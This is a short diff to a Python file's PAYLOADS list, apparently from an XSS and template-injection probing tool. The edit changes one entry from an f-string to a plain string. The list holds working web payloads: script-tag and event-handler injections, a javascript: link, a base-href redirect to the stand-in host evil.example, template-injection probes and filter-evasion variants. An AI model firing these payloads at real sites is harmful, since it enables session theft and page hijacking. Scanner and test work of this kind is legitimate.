@@ -45,7 +45,7 @@ PAYLOADS = [
     f"</mark><script>{P}</script><mark>",
     f'<mark onmouseover="{P}">xssprobe</mark>',
     f'<a href="javascript:{P}">bấm vào đây</a>',
-    f"<style>body{{display:none}}</style><base href=\"https://evil.example/\">",
+    "<style>body{display:none}</style><base href=\"https://evil.example/\">",
     "{{ config }} {% raw %} ${7*7} #{7*7}",
     f"<scr<script>ipt>{P}</scr</script>ipt>",
     f"\u003cscript\u003e{P}\u003c/script\u003e",
